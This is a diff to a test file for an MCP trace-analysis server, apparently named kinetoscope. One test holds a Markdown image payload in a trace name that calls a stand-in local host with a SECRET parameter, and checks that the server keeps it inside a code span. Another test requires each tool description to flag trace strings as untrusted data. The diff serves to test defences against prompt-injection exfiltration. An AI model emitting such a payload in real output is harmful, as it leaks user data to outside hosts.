@@ -72,7 +72,42 @@ async function connect(...extra: string[]): Promise<{ client: Client; transport:
 async function call(client: Client, name: string, args: Record<string, unknown>, signal?: AbortSignal): Promise<{ error: boolean; text: string; doc?: Record<string, unknown> }> {
   const r = await client.callTool({ name, arguments: args }, undefined, { signal, timeout: 600_000 });
   const text = (r.content as { text: string }[])[0]!.text;
-  return { error: r.isError === true, text, doc: r.isError ? undefined : ((r.structuredContent as { document: Record<string, unknown> }).document) };
+  // (explain answers its Markdown; every other tool {document, page})
+  const doc = r.isError || name === 'explain' ? undefined : (JSON.parse(text) as { document: Record<string, unknown> }).document;
+  return { error: r.isError === true, text, doc };
+}
+
+/** A line of Markdown less its code spans (CommonMark: a run of n backticks up to the next run of exactly n). */
+function outsideCodeSpans(line: string): string {
+  let out = '';
+  let i = 0;
+  while (i < line.length) {
+    if (line[i] !== '`') {
+      out += line[i++];
+      continue;
+    }
+    let n = 0;
+    while (line[i + n] === '`') n++;
+    let end = -1;
+    for (let j = i + n; j < line.length; ) {
+      if (line[j] !== '`') {
+        j++;
+        continue;
+      }
+      let m = 0;
+      while (line[j + m] === '`') m++;
+      if (m === n) {
+        end = j;
+        break;
+      }
+      j += m;
+    }
+    if (end < 0) {
+      out += line.slice(i, i + n);
+      i += n;
+    } else i = end + n;
+  }
+  return out;
 }
 
 /** The pids of `pid`'s children (Linux's /proc). */
@@ -127,7 +162,8 @@ describe.skipIf(!posix || process.platform !== 'linux')('kinetoscope mcp against
 
   it('every tool says that the strings in its answers are untrusted data, and states the read limits it runs under (from the machine\'s memory, finding 8)', async () => {
     const { tools } = await client.listTools();
-    for (const t of tools) expect(t.description).toContain(UNTRUSTED_NOTE);
+    // (the schema tool answers kinetoscope's own schemas: nothing of a trace)
+    for (const t of tools) if (t.name !== 'schema') expect(t.description).toContain(UNTRUSTED_NOTE);
     // Half the memory at 160 B an event; the JSON text at twice the memory (docs/agents.md).
     const events = Math.floor(totalmem() / 2 / 160);
     const summary = tools.find((t) => t.name === 'summary')!;
@@ -195,15 +231,12 @@ describe.skipIf(!posix || process.platform !== 'linux')('kinetoscope mcp against
   });
 
   it('a trace name with backticks and Markdown stays inside its code span in explain\'s sentences (finding 6)', async () => {
-    const r = await call(client, 'explain', { trace: 'inject.pt.trace.json', limit: 1_000_000, fullNames: true });
-    const texts = ((r.doc!['sections'] as { sentences: { text: string; template: string }[] }[]).flatMap((s) => s.sentences));
+    const r = await call(client, 'explain', { trace: 'inject.pt.trace.json', limit: 1_000_000 });
+    expect(r.error).toBe(false);
+    // (the tool answers explain's Markdown: the name is inside its code span, and nowhere outside one)
     const fenced = '`` linear_fwd` ![x](http://127.0.0.1:8999/md?d=SECRET) ` ``';
-    expect(texts.some((s) => s.text.includes(fenced))).toBe(true);
-    // Outside a fence the name never appears, and no template carries it.
-    for (const s of texts) {
-      expect(s.text.replaceAll(fenced, '')).not.toContain('![x]');
-      expect(s.template).not.toContain('![x]');
-    }
+    expect(r.text).toContain(fenced);
+    for (const line of r.text.split('\n')) expect(outsideCodeSpans(line), line).not.toContain('![x]');
   });
 
   it('a call killed under the runner (a crash) answers an error; the next call is served by a fresh runner', async () => {
@@ -215,7 +248,7 @@ describe.skipIf(!posix || process.platform !== 'linux')('kinetoscope mcp against
     process.kill(runner!, 'SIGKILL');
     const r = await pending;
     expect(r.error).toBe(true);
-    expect(r.text).toBe('sql stopped the process that runs calls (SIGKILL): no answer; the next call starts a fresh one');
+    expect(r.text).toBe('kinetoscope: CALL_CRASHED: sql stopped the process that runs calls (SIGKILL): no answer; the next call starts a fresh one');
     const next = await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
     expect(next.error).toBe(false);
     expect(childrenOf(transport.pid!)).not.toContain(runner);
@@ -250,7 +283,8 @@ describe.skipIf(!posix || process.platform !== 'linux')('kinetoscope mcp --call-
 
   it('a call that runs past the limit answers an error; the next call is served', async () => {
     const r = await call(client, 'sql', NEVER_ENDS);
-    expect([r.error, r.text]).toEqual([true, 'sql ran past its time limit (30 s, kinetoscope mcp --call-timeout): stopped, no answer (the server goes on; traces it kept are read again)']);
-    expect((await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 })).error).toBe(false);
+    expect([r.error, r.text]).toEqual([true, 'kinetoscope: CALL_TIMEOUT: sql ran past its time limit (30 s, kinetoscope mcp --call-timeout): stopped, no answer (the server goes on; traces it kept are read again)']);
+    const next = await call(client, 'kernels', { trace: 'linear.pt.trace.json', limit: 0 });
+    expect(next.error, next.text).toBe(false);
   });
 });
